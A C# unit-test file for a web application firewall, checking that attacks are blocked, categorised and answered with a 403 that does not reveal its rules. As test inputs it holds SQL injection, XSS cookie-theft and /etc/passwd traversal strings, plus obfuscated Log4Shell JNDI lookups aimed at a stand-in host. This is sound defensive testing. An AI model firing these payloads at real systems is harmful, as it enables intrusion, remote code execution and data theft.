using System.Text;
using Tosec.Actors.Inspection;

namespace Tosec.Tests.Engines.Waf;

/// <summary>Attacks are blocked, named, and answered without giving the rules away.</summary>
public sealed class WafBlockSpecs(WafFixture fixture) : IClassFixture<WafFixture>
{
    private const string Sqli = "1' OR '1'='1' UNION SELECT username, password FROM users--";
    private const string Xss = "<script>alert(document.cookie)</script>";
    private const string Lfi = "../../../../etc/passwd";

    public static TheoryData<string, string> Attacks => new()
    {
        { Http.Get("/?id=" + Uri.EscapeDataString(Sqli)), "attack-sqli" },
        { Http.Form("id=" + Uri.EscapeDataString(Sqli)), "attack-sqli" },
        { Http.Json("{\"id\":\"" + Sqli + "\"}"), "attack-sqli" },
        { Http.Chunked("/form", "application/x-www-form-urlencoded", "id=1%27%20OR%20", Uri.EscapeDataString(Sqli)), "attack-sqli" },
        { Http.Get("/?q=" + Uri.EscapeDataString(Xss)), "attack-xss" },
        { Http.Form("q=" + Uri.EscapeDataString(Xss)), "attack-xss" },
        { Http.Json("{\"q\":\"" + Xss + "\"}"), "attack-xss" },
        { Http.Get("/?file=" + Lfi), "attack-lfi" },
        { Http.Form("file=" + Lfi), "attack-lfi" },
        { Http.Json("{\"file\":\"" + Lfi + "\"}"), "attack-lfi" },
        { Http.Get("/", "Cookie: id=" + Sqli + "\r\n"), "attack-sqli" },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Attack_is_blocked_and_named(string request, string category)
    {
        using var conversation = new Conversation(fixture.System);
        Assert.Equal(VerdictKind.Block, conversation.Client(request));
        Assert.Equal("", conversation.ReleasedToServer);
        var threat = conversation.Threat;
        Assert.Equal(category, threat.Category);
        Assert.InRange(threat.SignatureId, 911000, 948999);
        Assert.NotEqual("", threat.Signature);
        Assert.Equal(1, threat.Severity);
        Assert.Contains(threat.SignatureId, threat.MatchedRules);
        Assert.Contains(949110, threat.MatchedRules);
        Assert.Equal("shop.example", threat.Http!.Hostname);
        Assert.Equal(request[..request.IndexOf(' ')], threat.Http.Method);
        Assert.Equal("HTTP/1.1", threat.Http.Protocol);
        Assert.StartsWith("Mozilla/5.0", threat.Http.UserAgent);
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Blocked_request_is_answered_403_with_the_reference_of_the_event(string request, string category)
    {
        using var conversation = new Conversation(fixture.System);
        conversation.Client(request);
        var threat = conversation.Threat;
        var answer = Encoding.ASCII.GetString(threat.Answer.Span);
        var parts = answer.Split("\r\n\r\n", 2);
        Assert.StartsWith("HTTP/1.1 403 Forbidden\r\n", answer);
        Assert.Contains($"\r\nContent-Length: {parts[1].Length}\r\n", parts[0] + "\r\n");
        Assert.Contains("\r\nConnection: close", parts[0]);
        Assert.NotEqual("", threat.Reference);
        Assert.Contains(threat.Reference, parts[1]);
        Assert.DoesNotContain(threat.SignatureId.ToString(), answer.Replace(threat.Reference, ""));
        Assert.DoesNotContain(category, answer);
        Assert.DoesNotContain("odSecurity", answer);
    }

    [Theory]
    [InlineData("${jndi:ldap://evil.example/a}")]
    [InlineData("${${lower:j}ndi:rmi://evil.example/a}")]
    [InlineData("${${env:NOTHING:-j}n${::-d}i:ldap://evil.example/a}")]
    public void Logger_lookup_is_blocked_wherever_it_stands(string lookup)
    {
        foreach (var request in new[]
        {
            Http.Get("/", $"X-Api-Version: {lookup}\r\n"),
            Http.Get("/?q=" + Uri.EscapeDataString(lookup)),
            Http.Form("q=" + Uri.EscapeDataString(lookup)),
            Http.Json($"{{\"q\":\"{lookup}\"}}"),
        })
        {
            using var conversation = new Conversation(fixture.System);
            Assert.Equal(VerdictKind.Block, conversation.Client(request));
            Assert.Equal("attack-rce", conversation.Threat.Category);
        }
    }

    [Fact]
    public void Attack_after_clean_exchanges_is_answered()
    {
        using var conversation = new Conversation(fixture.System);
        conversation.Client(Http.Get("/"));
        conversation.Server(Http.Ok("<p>hello</p>"));
        Assert.Equal(VerdictKind.Block, conversation.Client(Http.Get("/?file=" + Lfi)));
        Assert.False(conversation.Threat.Answer.IsEmpty);
    }

    [Fact]
    public void Attack_behind_an_unanswered_request_is_reset_not_answered()
    {
        using var conversation = new Conversation(fixture.System);
        Assert.Equal(VerdictKind.Pass, conversation.Client(Http.Get("/")));
        Assert.Equal(VerdictKind.Block, conversation.Client(Http.Get("/?file=" + Lfi)));
        Assert.True(conversation.Threat.Answer.IsEmpty);
        Assert.Equal("", conversation.Threat.Reference);
    }

    [Fact]
    public void Attack_pipelined_in_one_payload_lets_nothing_through()
    {
        using var conversation = new Conversation(fixture.System);
        Assert.Equal(VerdictKind.Block, conversation.Client(Http.Get("/") + Http.Get("/?file=" + Lfi)));
        Assert.Equal("", conversation.ReleasedToServer);
    }

    [Fact]
    public void Attack_in_a_body_after_100_continue_is_answered()
    {
        using var conversation = new Conversation(fixture.System);
        var body = "id=" + Uri.EscapeDataString(Sqli);
        conversation.Client(Http.PostHead(
            "/f", "application/x-www-form-urlencoded", $"Content-Length: {body.Length}\r\nExpect: 100-continue\r\n"));
        conversation.Server("HTTP/1.1 100 Continue\r\n\r\n");
        Assert.Equal(VerdictKind.Block, conversation.Client(body));
        Assert.False(conversation.Threat.Answer.IsEmpty);
        Assert.DoesNotContain("SELECT", conversation.ReleasedToServer);
    }

    [Fact]
    public void Every_call_after_a_block_is_a_block()
    {
        using var conversation = new Conversation(fixture.System);
        conversation.Client(Http.Get("/?file=" + Lfi));
        Assert.Equal(VerdictKind.Block, conversation.Client(Http.Get("/")));
        Assert.Equal(VerdictKind.Block, conversation.Server(Http.Ok("x")));
        Assert.Equal(VerdictKind.Block, conversation.ClientEnds());
        Assert.Equal(VerdictKind.Block, conversation.ServerHoldLimit());
    }

    [Theory]
    [InlineData("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version")]
    [InlineData("Microsoft OLE DB Provider for SQL Server error '80040e14'")]
    public void Database_error_in_a_response_is_blocked_and_reset(string leak)
    {
        using var conversation = new Conversation(fixture.System);
        conversation.Client(Http.Get("/item"));
        Assert.Equal(VerdictKind.Block, conversation.Server(Http.Ok($"<html><body>{leak}</body></html>")));
        Assert.DoesNotContain(leak, conversation.ReleasedToClient);
        Assert.True(conversation.Threat.Answer.IsEmpty);
        Assert.InRange(conversation.Threat.SignatureId, 950000, 958999);
        Assert.Equal("/item", conversation.Threat.Http!.Url);
        Assert.Equal(200, conversation.Threat.Http.Status);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Leak_in_a_response_cut_at_every_byte_never_reaches_the_client(bool chunked)
    {
        const string Leak = "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version";
        var response = chunked
            ? $"HTTP/1.1 500 Oops\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n{Leak.Length:x}\r\n{Leak}\r\n0\r\n\r\n"
            : Http.Ok(Leak);
        for (var cut = 0; cut <= response.Length; cut++)
        {
            using var conversation = new Conversation(fixture.System);
            conversation.Client(Http.Get("/"));
            conversation.Server(response[..cut]);
            Assert.Equal(VerdictKind.Block, conversation.Server(response[cut..]));
            Assert.DoesNotContain("SQL", conversation.ReleasedToClient);
        }
    }

    [Fact]
    public void Rule_number_written_into_a_request_does_not_reach_the_event()
    {
        using var conversation = new Conversation(fixture.System);
        conversation.Client(Http.Form("a=" + Uri.EscapeDataString("[file \"/tmp/x\"] [id \"123\"] " + Xss)));
        Assert.DoesNotContain(123, conversation.Threat.MatchedRules);
        Assert.Equal("attack-xss", conversation.Threat.Category);
    }

    [Fact]
    public void Body_longer_than_the_limit_is_blocked_at_its_head()
    {
        using var conversation = new Conversation(fixture.System);
        Assert.Equal(VerdictKind.Block, conversation.Client(
            Http.PostHead("/f", "application/x-www-form-urlencoded", "Content-Length: 10000000\r\n")));
        Assert.Contains("longer than can be inspected", conversation.Threat.Signature);
    }

    [Fact]
    public void Chunked_body_longer_than_the_limit_is_blocked()
    {
        using var conversation = new Conversation(fixture.System);
        var chunk = new string('a', fixture.System.Settings.RequestBodyLimit / 2 + 1);
        Assert.Equal(VerdictKind.Block, conversation.Client(Http.Chunked("/f", "application/json", chunk, chunk)));
        Assert.Contains("longer than can be inspected", conversation.Threat.Signature);
    }

    [Fact]
    public void Attack_in_front_of_the_limit_of_an_upload_is_blocked()
    {
        using var conversation = new Conversation(fixture.System);
        var field = $"--xyz\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\n{Sqli}\r\n";
        var body = field + Http.Multipart("xyz", "f", "a.bin", new string('z', fixture.System.Settings.RequestBodyLimit * 2));
        Assert.Equal(VerdictKind.Block, conversation.Client(Http.Post("/upload", "multipart/form-data; boundary=xyz", body)));
        Assert.Equal("attack-sqli", conversation.Threat.Category);
    }

    [Fact]
    public void Held_body_is_blocked_when_the_chain_holds_no_more()
    {
        using var conversation = new Conversation(fixture.System);
        Assert.Equal(VerdictKind.Hold, conversation.Client(Http.Form("name=Ada")[..^2]));
        Assert.Equal(VerdictKind.Block, conversation.ClientHoldLimit());
    }

    [Fact]
    public void Held_response_is_decided_when_the_chain_holds_no_more()
    {
        using var conversation = new Conversation(fixture.System);
        conversation.Client(Http.Get("/"));
        Assert.Equal(VerdictKind.Hold, conversation.Server(Http.Ok("<p>hello</p>")[..^2]));
        Assert.Equal(VerdictKind.Pass, conversation.ServerHoldLimit());
        Assert.Equal(VerdictKind.Pass, conversation.Server("p>"));
    }

    [Theory]
    [InlineData("GET / HTTP/1.1\r\nHost: a")]
    [InlineData("GET")]
    [InlineData("POST / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: x\r\nAccept: */*\r\nContent-Type: text/plain\r\nContent-Length: 5\r\n\r\nab")]
    public void Request_that_ends_before_it_is_complete_is_blocked(string begin)
    {
        using var conversation = new Conversation(fixture.System);
        conversation.Client(begin);
        Assert.Equal(VerdictKind.Block, conversation.ClientEnds());
    }
}
